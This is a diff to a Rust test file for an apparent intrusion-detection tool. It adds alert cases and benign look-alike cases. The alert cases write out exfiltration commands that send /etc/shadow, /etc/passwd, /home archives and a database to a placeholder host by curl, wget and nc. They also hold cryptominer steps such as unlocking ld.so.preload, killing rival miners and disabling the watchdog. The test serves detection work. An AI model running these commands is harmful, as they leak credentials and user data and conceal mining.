@@ -670,6 +670,57 @@ const FIRES: &[(&str, &str, &str)] = &[
         "perl -MMIME::Base64 -e eval(decode_base64('cHJpbnQgMQ=='))",
     ),
     (
+        "data-egress",
+        "/usr/bin/curl",
+        "curl -T /root/backup.tgz ftp://198.51.100.7/in/",
+    ),
+    (
+        "data-egress",
+        "/usr/bin/curl",
+        "curl -s -F file=@/etc/shadow https://198.51.100.7/u",
+    ),
+    (
+        "data-egress",
+        "/usr/bin/wget",
+        "wget --post-file=/etc/passwd http://198.51.100.7/",
+    ),
+    (
+        "data-egress",
+        "/usr/bin/bash",
+        "bash -c tar czf - /home | nc 198.51.100.7 9000",
+    ),
+    (
+        "data-egress",
+        "/usr/bin/dash",
+        "sh -c nc 198.51.100.7 9000 < /var/lib/app/data.db",
+    ),
+    (
+        "bot-like",
+        "/usr/bin/chattr",
+        "chattr -i /etc/ld.so.preload",
+    ),
+    (
+        "bot-like",
+        "/usr/bin/chattr",
+        "chattr +i /var/spool/cron/crontabs/root",
+    ),
+    ("bot-like", "/usr/bin/pkill", "pkill -f kdevtmpfsi"),
+    (
+        "bot-like",
+        "/usr/bin/bash",
+        "bash -c ps aux | grep -v grep | grep xmrig | awk '{print $2}' | xargs kill -9",
+    ),
+    (
+        "bot-like",
+        "/usr/sbin/sysctl",
+        "sysctl -w vm.nr_hugepages=1280",
+    ),
+    (
+        "bot-like",
+        "/usr/bin/bash",
+        "bash -c echo 0 > /proc/sys/kernel/nmi_watchdog",
+    ),
+    (
         "download-and-run",
         "/usr/bin/bash",
         "bash -c curl -fsSL http://198.51.100.7/x.sh | bash",
@@ -987,6 +1038,29 @@ const QUIET: &[(&str, &str)] = &[
         "/usr/sbin/adduser",
         "adduser --system --home /nonexistent --no-create-home --shell /usr/sbin/nologin mosquitto",
     ),
+    // Downloads, API calls to this device, archives kept locally.
+    (
+        "/usr/bin/curl",
+        "curl -fsSL -o /root/tool.tgz https://198.51.100.7/tool.tgz",
+    ),
+    (
+        "/usr/bin/curl",
+        "curl -s -d @/etc/app/payload.json http://localhost:8080/api",
+    ),
+    (
+        "/usr/bin/curl",
+        "curl -s -H Content-Type: application/json -d {\"a\":1} https://198.51.100.7/api",
+    ),
+    ("/usr/bin/bash", "bash -c tar czf /root/etc.tgz /etc"),
+    ("/usr/bin/bash", "bash -c echo hi | nc -q1 127.0.0.1 9000"),
+    // Attributes and processes an administrator handles.
+    ("/usr/bin/chattr", "chattr +i /etc/resolv.conf"),
+    ("/usr/bin/pkill", "pkill -HUP rsyslogd"),
+    (
+        "/usr/bin/bash",
+        "bash -c ps aux | grep nginx | awk '{print $2}' | xargs kill",
+    ),
+    ("/usr/sbin/sysctl", "sysctl -w net.ipv4.ip_forward=1"),
     // Decoding without running what was decoded.
     (
         "/usr/bin/python3.11",
@@ -1855,12 +1929,17 @@ fn custom_rules_alert_like_built_in_ones() {
         "curl -T /var/log/syslog https://UPLOAD.vendor.example/in",
     );
     let f = run(&mut d, &hit, t0);
+    // The built-in `data-egress` sees the upload too (docs/detection.md says so).
     let a = raised(&f);
-    assert_eq!(a.len(), 1, "{f:?}");
-    let (Finding::Raised(rule, _) | Finding::Suppressed(rule)) = f[0];
+    assert_eq!(
+        a.iter().map(|a| a.rule_id.as_str()).collect::<Vec<_>>(),
+        ["data-egress", "vendor-upload"],
+        "{f:?}"
+    );
+    let (Finding::Raised(rule, _) | Finding::Suppressed(rule)) = f[1];
     assert!(rule.index() >= Rule::count());
     assert_eq!(d.rule_id(rule), "vendor-upload");
-    let a = a[0];
+    let a = a[1];
     assert_eq!(a.rule_id, "vendor-upload");
     assert_eq!(a.title.as_deref(), Some("Vendor tool run"));
     assert_eq!(a.severity, BaselineSeverity::Warning);
@@ -1870,7 +1949,7 @@ fn custom_rules_alert_like_built_in_ones() {
     assert_eq!(a.extra_details["EventKind"], "ProcessCreate");
     assert!(a.description.starts_with("Vendor tool run: curl -T"));
     // Suppressed per subject like a built-in rule.
-    assert_eq!(run(&mut d, &hit, t0), vec![Finding::Suppressed(rule)]);
+    assert_eq!(run(&mut d, &hit, t0)[1], Finding::Suppressed(rule));
     // Near misses: another program with the text, curl without it.
     let wget = exec("/usr/bin/wget", "wget https://upload.vendor.example/in");
     assert_eq!(run(&mut d, &wget, t0), vec![]);
@@ -2008,7 +2087,10 @@ fn the_documented_custom_rule_example_works() {
     let now = Instant::now();
     let upload = "curl -T /var/log/syslog https://upload.vendor.example/in";
     let f = run(&mut d, &exec("/usr/bin/curl", upload), now);
-    assert_eq!(raised(&f)[0].rule_id, "vendor-upload");
+    assert!(
+        raised(&f).iter().any(|a| a.rule_id == "vendor-upload"),
+        "{f:?}"
+    );
     for (exe, line) in [
         ("/usr/bin/curl", "curl https://upload.vendor.example/"),
         ("/usr/bin/wget", "wget https://upload.vendor.example/in"),
